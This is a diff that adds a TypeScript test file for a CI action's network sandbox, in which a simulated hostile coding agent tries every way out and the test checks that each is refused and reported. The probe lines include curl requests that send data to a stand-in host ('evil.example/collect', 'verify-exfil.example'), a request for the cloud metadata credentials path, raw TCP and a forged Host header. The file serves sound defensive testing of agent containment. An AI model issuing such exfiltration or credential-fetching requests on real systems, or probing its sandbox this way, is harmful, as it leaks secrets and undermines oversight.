@@ -1,0 +1,134 @@
+/**
+ * Issue 21, the agent's network: with the defaults (`network: allowlist`) the bundled action runs
+ * every round and the verify command in a network namespace whose only way out is its egress
+ * proxy. A hostile agent tries every door — a host not allowed (HTTPS and plain HTTP), a raw TCP
+ * connection, DNS, the runner's own services on loopback (the GitHub fake, the git server), the
+ * cloud metadata address, a forged Host header — and each stays shut, while an allowed host (a
+ * local stand-in, mapped by the proxy's test-only resolver) answers by HTTPS and HTTP. The refused
+ * hosts, counted, show in each round's comment and in the pull request.
+ */
+import { readFileSync } from "node:fs";
+import { join } from "node:path";
+import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { greeting, startStandIn, type StandIn } from "../support/egress-hosts.js";
+import { BOT, FULL_NAME, reports, startScenario, type Scenario } from "../support/scenario.js";
+
+let scenario: Scenario;
+let standIn: StandIn;
+beforeEach(async () => {
+  scenario = await startScenario();
+  standIn = await startStandIn("allowed.example");
+});
+afterEach(async () => {
+  await standIn.close();
+  await scenario.close();
+});
+
+const FIXED = "export const add = (a, b) => a + b;\n";
+const log = () => join(scenario.dir, "agent-log");
+const read = (name: string) => readFileSync(join(log(), name), "utf8");
+const bot = () => scenario.github.comments(FULL_NAME, scenario.issueNumber).filter((comment) => comment.user === BOT);
+const roundComment = (round: number) => bot().find((comment) => comment.body.includes(`"round":${round},`))?.body ?? "";
+const tracking = () => bot().find((comment) => comment.body.includes("<!-- ralph-bot:tracking "))?.body ?? "";
+/** The environment of the action (never the agent's): the test-only resolver maps the stand-in's name and `localhost`. */
+const resolver = () => ({ RALPH_TEST_EGRESS_HOSTS: `allowed.example=${standIn.address},localhost=127.0.0.1` });
+
+/** A shell line that writes `<name> <what the command printed>` to the agent's probe file, whatever it exits with. */
+const probe = (name: string, command: string) => `echo "${name} $(${command} 2>/dev/null)" >> ${log()}/probes`;
+const status = "curl -s -o /dev/null -w '%{http_code}'";
+
+describe("an agent on the default network (allowlist)", () => {
+  it("reaches only the allowed host; every other way out fails, and the refused hosts show in the round comments and the pull request", async () => {
+    const githubFake = new URL(scenario.github.url);
+    const gitServer = new URL(scenario.git.url(FULL_NAME));
+    const run = await scenario.run({
+      rounds: {
+        1: {
+          run: [
+            probe("https-allowed", `curl -sk https://allowed.example:${standIn.httpsPort}/release.tgz`),
+            probe("http-allowed", `curl -s http://allowed.example:${standIn.httpPort}/simple/`),
+            probe("https-refused", "curl -sk -o /dev/null -w '%{http_connect}' https://evil.example/upload"),
+            probe("https-refused-again", "curl -sk -o /dev/null -w '%{http_connect}' https://evil.example/upload"),
+            probe("http-refused", `${status} -d secret=1 http://evil.example/collect`),
+            probe("tcp-raw", `node -e 'require("net").connect(443, "1.1.1.1").on("error", (e) => console.log(e.code))'`),
+            probe("dns", "getent hosts evil.example || echo unresolved"),
+            probe("github-fake-direct", `curl -s --noproxy '*' -o /dev/null -w '%{http_code}' ${githubFake.origin}/`),
+            probe("github-fake-proxy", `${status} --noproxy '' ${githubFake.origin}/`),
+            probe("git-server-proxy", `${status} --noproxy '' http://localhost:${gitServer.port}${gitServer.pathname}/info/refs`),
+            probe("metadata", `${status} --noproxy '' http://169.254.169.254/latest/meta-data/iam/security-credentials/`),
+            probe("forged-host", `${status} -H 'Host: evil.example' http://allowed.example:${standIn.httpPort}/`),
+          ],
+          files: { "NOTES.md": "probed\n" },
+          report: reports.continue("probed the network"),
+        },
+        2: {
+          run: [probe("round-2", "curl -sk -o /dev/null -w '%{http_connect}' https://evil.example/again")],
+          files: { "add.js": FIXED },
+          report: reports.complete("fixed add()"),
+        },
+      },
+      inputs: {
+        "allowed-domains": "allowed.example, localhost",
+        // The verify command is sandboxed too: its refused host counts in the round it verifies.
+        "verify-command": `curl -s -o /dev/null http://verify-exfil.example/ ; npm test`,
+      },
+      env: resolver(),
+    });
+    expect(run.outputs.outcome, run.stderr).toBe("complete");
+    expect(read("probes").trim().split("\n")).toEqual([
+      `https-allowed ${greeting("allowed.example", "https").trim()}`,
+      `http-allowed ${greeting("allowed.example", "http").trim()}`,
+      "https-refused 403",
+      "https-refused-again 403",
+      "http-refused 403",
+      "tcp-raw ENETUNREACH",
+      "dns unresolved",
+      "github-fake-direct 000",
+      "github-fake-proxy 403",
+      "git-server-proxy 403",
+      "metadata 403",
+      "forged-host 403",
+      "round-2 403",
+    ]);
+    // The stand-in saw the two allowed requests; nothing of the forged one.
+    expect(standIn.requests.map((request) => `${request.scheme} ${request.path}`)).toEqual(["https /release.tgz", "http /simple/"]);
+    expect(run.stdout).toContain("network: only through the egress proxy, to allowed.example, localhost");
+
+    const first = roundComment(1);
+    expect(first).toContain(
+      "**Network:** the agent tried to reach `evil.example` (refused 3×), `127.0.0.1` (refused 1×), `169.254.169.254` (refused 1×); allow a host with `allowed-domains`; " +
+        "`localhost` (refused 1×): resolves only to addresses the sandbox never reaches (loopback, link-local, cloud metadata); " +
+        "a plain HTTP request carried a Host header naming `evil.example` (refused 1×), not its own host.",
+    );
+    // Round 2: its agent's attempt and its verify command's, counted from zero.
+    expect(roundComment(2)).toContain(
+      "**Network:** the agent tried to reach `evil.example` (refused 1×), `verify-exfil.example` (refused 1×); allow a host with `allowed-domains`.",
+    );
+    const pull = scenario.github.pulls(FULL_NAME)[0];
+    expect(pull?.body).toContain(
+      "**Network:** the agent tried to reach `evil.example` (refused 4×), `127.0.0.1` (refused 1×), `169.254.169.254` (refused 1×), `verify-exfil.example` (refused 1×); allow a host with `allowed-domains`;",
+    );
+    expect(tracking()).not.toContain("network open");
+  });
+});
+
+describe("network: open", () => {
+  it("shares the runner's network, and the tracking comment says so", async () => {
+    const githubFake = new URL(scenario.github.url);
+    const run = await scenario.run({
+      rounds: {
+        1: {
+          run: [probe("github-fake-direct", `curl -s -o /dev/null -w '%{http_code}' ${githubFake.origin}/`)],
+          files: { "add.js": FIXED },
+          report: reports.complete("fixed add()"),
+        },
+      },
+      inputs: { network: "open" },
+    });
+    expect(run.outputs.outcome, run.stderr).toBe("complete");
+    // The runner's loopback is the sandbox's: the GitHub fake answers (an HTTP status, not curl's 000 for no connection).
+    expect(read("probes")).toMatch(/^github-fake-direct [1-5]\d\d\n$/);
+    expect(tracking()).toContain("agent `command` (network open)");
+    expect(roundComment(1)).not.toContain("**Network:**");
+  });
+});
